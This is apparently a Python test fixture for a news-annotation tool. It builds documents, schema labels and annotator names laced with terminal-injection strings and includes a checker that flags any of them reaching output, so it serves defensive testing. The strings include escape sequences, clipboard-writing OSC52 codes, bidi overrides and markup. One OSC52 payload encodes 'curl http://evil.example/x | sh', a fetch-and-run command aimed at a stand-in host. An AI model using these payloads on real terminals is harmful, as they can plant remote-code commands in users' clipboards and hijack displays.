"""A corpus of hostile documents: every way a string from data could drive a terminal or be read as markup.

Hostile strings sit in titles, outlets, article text, annotator names (as an older
database may hold them), schema labels and descriptions, and notes. Each hostile piece
sits between plain words (MARKERS) that must still show on screen around it.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

from annotator.core.models import Decision, Document, Entity, Unit
from annotator.core.schema import EntityLabel, EventType, LabelSchema, default_schema
from annotator.store import SqliteStore, open_store

PAYLOAD = base64.b64encode(b"curl http://evil.example/x | sh").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"  # writes the clipboard under tmux set-clipboard on
RESET = "\x1bc"  # full terminal reset
CLEAR = "\x1b[2J"  # blanks the screen
ALT_OFF = "\x1b[?1049l"  # leaves the alternate screen
C1_CSI = "\x9b2J"  # C1 CSI: the same clear, in one code point
C1_OSC = f"\x9d52;c;{PAYLOAD}\x9c"  # C1 OSC ... ST
BIDI = "\u202eevil\u202c \u2066iso\u2069 \u202agood\u202c"
RICH = "[bold red]EVIL[/]"
LINK = "[link=http://x]y[/link]"
CLOSE = "[/]"
TEXTUAL = "[@click=app.quit]quit[/] [$accent]acc[/] [b]B[/b]"
ZALGO = "Z" + "\u0336\u0321\u0358" * 12 + "algo" + "\u0337" * 20
NUL = "\x00"
DEL = "\x7f"

CONTROLS = (OSC52, RESET, CLEAR, ALT_OFF, C1_CSI, C1_OSC, NUL, DEL)
MARKUP = (RICH, LINK, CLOSE, TEXTUAL)
EVERY = (*CONTROLS, BIDI, *MARKUP, ZALGO)

# Legacy names (an older database accepted anything): these label layers and table rows.
NAME_MARKUP = "[/]"
NAME_ESCAPE = f"x{OSC52}y"
LABEL = f"EV{OSC52}IL[b]"  # an entity label from the schema
EVENT_TYPE = f"Contact.{RESET}Meet{CLOSE}"

# Words that must still be on screen next to the hostile pieces.
MARKERS = ("Kremlin", "Zakharova", "Moscow")
TITLE = f"Kremlin {RICH} {OSC52}{RESET} talks {CLEAR}{C1_CSI} {BIDI}"
OUTLET = f"Out{ALT_OFF}{C1_OSC}{LINK}"
NOTE = f"check {OSC52} {RICH} {NUL}"


def hostile_text() -> str:
    """An article with every hostile piece between plain words, and a quote over them."""
    lines = [f"Maria Zakharova said {piece} in Moscow." for piece in EVERY]
    lines.append(f"“We will answer {OSC52}{RICH},” said Zakharova{CLEAR} on Tuesday.")
    lines.append(f"The Kremlin denied it {TEXTUAL}{C1_OSC}.")
    return "\n".join(lines) + "\n"


def long_text() -> str:
    """One line of 100,000 characters (words and escapes), then a short one."""
    unit = f"Moscow {OSC52} lorem ipsum {CLEAR} "
    line = (unit * (100_000 // len(unit) + 1))[:100_000]
    return line + "\nKremlin end.\n"


def hostile_schema() -> LabelSchema:
    """The default schema plus a hostile entity label (first: key 1) and event type, with hostile descriptions."""
    base = default_schema()
    return base.model_copy(
        update={
            "entity_labels": [
                EntityLabel(name=LABEL, description=f"desc {RICH} {C1_OSC} {LINK}"),
                *base.entity_labels,
            ],
            "event_types": [
                *base.event_types,
                EventType(name=EVENT_TYPE, description=f"meet {TEXTUAL} {CLEAR}", roles=[f"Who{RESET}", "Where[/]"]),
            ],
        }
    )


def hostile_documents() -> list[Document]:
    return [
        Document(id="h1", title=TITLE, outlet=OUTLET, text=hostile_text()),
        Document(id="h2", title=f"{CLOSE}{'long ' * 1000}", outlet=RICH, text=long_text()),
        Document(id=f"x{OSC52}", title=f"{ZALGO} {NUL}id", outlet=f"{DEL}{BIDI}", text="Plain Kremlin text.\n"),
    ]


def _span(text: str, needle: str) -> tuple[int, int]:
    start = text.index(needle)
    return start, start + len(needle)


def mark(store: SqliteStore, who: str, doc_id: str, start: int, end: int, label: str) -> None:
    """One annotator's unit, logged as the desk logs it (names bypass the CLI's rule: legacy data)."""
    unit = Unit(doc_id=doc_id, body=Entity(start=start, end=end, label=label), state="added")
    store.decide([Decision(doc_id=doc_id, annotator=who, action="add", after=unit.model_dump())])


def hostile_store(path: Path) -> SqliteStore:
    """The hostile corpus, the hostile schema, two legacy annotators who disagree on h1, a hostile note."""
    store = open_store(path)
    store.set_schema(hostile_schema())
    store.insert_documents(hostile_documents())
    text = hostile_text()
    osc_at = _span(text, f"said {OSC52}")
    rich_at = _span(text, f"said {RICH}")
    mark(store, NAME_MARKUP, "h1", *_span(text, "Maria Zakharova"), "PERSON")
    mark(store, NAME_ESCAPE, "h1", *_span(text, "Maria Zakharova"), LABEL)
    mark(store, NAME_MARKUP, "h1", *osc_at, LABEL)
    mark(store, NAME_ESCAPE, "h1", *rich_at, "ORG")
    store.set_status("h1", NAME_MARKUP, "done", flagged=True, note=NOTE)
    store.set_status("h1", NAME_ESCAPE, "in_progress")
    return store


def hostile_jsonl(path: Path) -> Path:
    """The hostile documents as an import file (one JSON object per line)."""
    with path.open("w", encoding="utf-8") as fh:
        for doc in hostile_documents():
            fh.write(json.dumps({"id": doc.id, "title": doc.title, "outlet": doc.outlet, "text": doc.text}) + "\n")
    return path


# -- what must never reach a terminal -----------------------------------------------------------

_C1 = re.compile("[\x80-\x9f]")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
# Sequences the hostile data carries: none may appear in output, whatever else the program emits.
_DATA_SEQUENCES = ("\x1b]", "\x1bc", "\x1b[2J", "\x1b[?1049l", "\x07")


def control_problems(output: str, *, program_escapes: bool = False) -> list[str]:
    """What in `output` could only have come from the hostile data.

    With `program_escapes`, the program's own SGR and cursor sequences are allowed (a TTY
    console); otherwise no ESC may appear at all.
    """
    problems = []
    for seq in _DATA_SEQUENCES:
        if seq in output:
            problems.append(f"{seq!r} in output")
    if not program_escapes and "\x1b" in output:
        problems.append("ESC in output")
    if _C1.search(output):
        problems.append(f"C1 control {_C1.search(output).group()!r} in output")  # type: ignore[union-attr]
    if "\x00" in output or "\x7f" in output:
        problems.append("NUL or DEL in output")
    return problems


def bidi_in(text: str) -> bool:
    return _BIDI.search(text) is not None
